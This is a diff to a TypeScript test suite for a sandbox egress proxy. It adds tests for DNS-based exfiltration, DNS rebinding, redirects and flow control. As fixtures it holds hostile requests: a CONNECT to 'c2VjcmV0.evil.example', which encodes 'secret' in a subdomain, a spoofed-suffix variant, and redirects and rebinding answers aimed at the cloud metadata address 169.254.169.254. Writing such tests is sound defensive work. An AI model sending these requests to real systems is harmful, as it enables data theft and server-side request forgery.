@@ -9,10 +9,21 @@ import { after, before, describe, it } from 'node:test';
 import type { NetworkPolicy } from '../model/network-policy.ts';
 import { EgressProxy } from './egress-proxy.ts';
 
+const FLOOD_BYTES = 64 * 2 ** 20;
+
+async function until(isSo: () => boolean): Promise<void> {
+  for (let turns = 0; !isSo(); turns++) {
+    assert.ok(turns < 100_000, 'it never came');
+    await new Promise(setImmediate);
+  }
+}
+
 describe('the way out of a sandbox', { timeout: 20_000 }, () => {
   let folder = '';
   let echo: Server;
   let http: Server;
+  let flood: Server;
+  let flooded = 0;
   let paths = 0;
   const refusals: string[] = [];
   const seen: string[] = [];
@@ -24,21 +35,40 @@ describe('the way out of a sandbox', { timeout: 20_000 }, () => {
     echo = createServer((socket) => socket.pipe(socket)).listen(0, '127.0.0.1');
     http = createHttpServer((request, response) => {
       seen.push(`${request.method} ${request.url} ${JSON.stringify(request.headers)}`);
+      if (request.url === '/redirect') response.writeHead(302, { location: 'http://169.254.169.254/' });
       response.end(`answer to ${request.url}`);
     }).listen(0, '127.0.0.1');
-    await Promise.all([once(echo, 'listening'), once(http, 'listening')]);
+    flood = createServer((socket) => {
+      const chunk = Buffer.alloc(2 ** 16);
+      const more = (): void => {
+        if (flooded >= FLOOD_BYTES) return void socket.end();
+        flooded += chunk.length;
+        socket.write(chunk, more);
+      };
+      socket.on('error', () => {});
+      more();
+    }).listen(0, '127.0.0.1');
+    await Promise.all([echo, http, flood].map((server) => once(server, 'listening')));
   });
   after(async () => {
     for (const proxy of proxies) proxy.close();
     echo.close();
     http.close();
+    flood.close();
     await rm(folder, { recursive: true });
   });
 
-  function open(policy: NetworkPolicy): string {
+  function open(policy: NetworkPolicy, resolve?: (host: string) => Promise<string[]>): string {
     paths += 1;
     const path = join(folder, `egress-${paths}`);
-    proxies.push(new EgressProxy({ path, policy, onRefused: (text) => refusals.push(text) }));
+    proxies.push(
+      new EgressProxy({
+        path,
+        policy,
+        onRefused: (text) => refusals.push(text),
+        ...(resolve === undefined ? {} : { resolve }),
+      }),
+    );
     return path;
   }
 
@@ -89,10 +119,77 @@ describe('the way out of a sandbox', { timeout: 20_000 }, () => {
     }
   });
 
-  it('does not even resolve a name that a list leaves out', async () => {
-    const path = open(['api.example.com']);
-    const answer = await exchange(path, 'CONNECT c2VjcmV0.evil.example:443 HTTP/1.1\r\n\r\n');
-    assert.match(answer, /^HTTP\/1\.1 403 [\s\S]*does not list it/);
+  it('does not even resolve a name that a list leaves out: that would tell its server what is in the name', async () => {
+    const asked: string[] = [];
+    const path = open(['*.example.com'], async (host) => {
+      asked.push(host);
+      return [];
+    });
+    const ask = (host: string): Promise<string> => exchange(path, `CONNECT ${host}:443 HTTP/1.1\r\n\r\n`);
+    assert.match(await ask('c2VjcmV0.evil.example'), /^HTTP\/1\.1 403 [\s\S]*does not list it/);
+    assert.match(await ask('c2VjcmV0.example.com.evil.example'), /^HTTP\/1\.1 403 /);
+    assert.deepEqual(asked, []);
+    assert.match(await ask('api.example.com'), /^HTTP\/1\.1 502 [\s\S]*has no address/);
+    assert.deepEqual(asked, ['api.example.com']);
+  });
+
+  it('asks for a name once, and connects to what it looked at', async () => {
+    // The second answer is the one that a rebinding name server keeps for the connection.
+    const answers = [['169.254.169.254', '127.0.0.1'], ['127.0.0.2']];
+    let asked = 0;
+    const path = open(['rebound.example', `127.0.0.1:${portOf(echo)}`], async () => answers[asked++] ?? []);
+    const request = `CONNECT rebound.example:${portOf(echo)} HTTP/1.1\r\n\r\nto the first`;
+    assert.match(await exchange(path, request), /^HTTP\/1\.1 200 [\s\S]*to the first$/);
+    assert.equal(asked, 1);
+    assert.match(await exchange(path, request), /^HTTP\/1\.1 403 [\s\S]*\(127\.0\.0\.2\)/, 'looked at anew');
+  });
+
+  it('asks for few names at a time, and for none twice at once', async () => {
+    const asked: string[] = [];
+    const pending: PromiseWithResolvers<string[]>[] = [];
+    const path = open('internet', (host) => {
+      asked.push(host);
+      const answer = Promise.withResolvers<string[]>();
+      pending.push(answer);
+      return answer.promise;
+    });
+    const ask = (host: string): Promise<string> => exchange(path, `CONNECT ${host}:443 HTTP/1.1\r\n\r\n`);
+    const many = Array.from({ length: 40 }, (_, at) => ask(`slow${at % 20}.example`));
+    const nobody = exchange(path, 'CONNECT 127.0.0.1:1 HTTP/1.1\r\n\r\n');
+    assert.match(await nobody, /^HTTP\/1\.1 403 /, 'addresses need not wait for names');
+    for (let told = 0; told < 20; told++) {
+      await until(() => pending.length > told);
+      assert.ok(pending.length - told <= 4, `${pending.length - told} at a time`);
+      pending[told]!.resolve([]);
+    }
+    for (const answer of await Promise.all(many)) assert.match(answer, /^HTTP\/1\.1 502 /);
+    assert.deepEqual(asked.toSorted(), [...new Set(asked)].toSorted());
+    assert.equal(asked.length, 20);
+  });
+
+  it('passes a redirect on, and does not follow it', async () => {
+    const visits = seen.length;
+    const path = open([`127.0.0.1:${portOf(http)}`]);
+    const address = `127.0.0.1:${portOf(http)}`;
+    const answer = await exchange(path, `GET http://${address}/redirect HTTP/1.1\r\nHost: x\r\n\r\n`);
+    assert.match(answer, /^HTTP\/1\.1 302 [\s\S]*location: http:\/\/169\.254\.169\.254\//i);
+    assert.equal(seen.length, visits + 1);
+  });
+
+  it('takes no more from a fast side than the slow one reads', async () => {
+    const path = open(['127.0.0.1']);
+    const socket = connect({ path });
+    socket.write(`CONNECT 127.0.0.1:${portOf(flood)} HTTP/1.1\r\n\r\n`);
+    // Nobody reads. While others are served, the flood must come to a halt.
+    let before = -1;
+    for (let still = 0; still < 20; before = flooded) {
+      assert.ok(flooded < FLOOD_BYTES, 'all of it was taken');
+      await exchange(path, `CONNECT 127.0.0.1:${portOf(echo)} HTTP/1.1\r\n\r\n`);
+      still = flooded > 0 && flooded === before ? still + 1 : 0;
+    }
+    let received = 0;
+    for await (const chunk of socket) received += (chunk as Buffer).length;
+    assert.ok(received > FLOOD_BYTES, 'it goes on when somebody reads');
   });
 
   it('answers nonsense with 400', async () => {
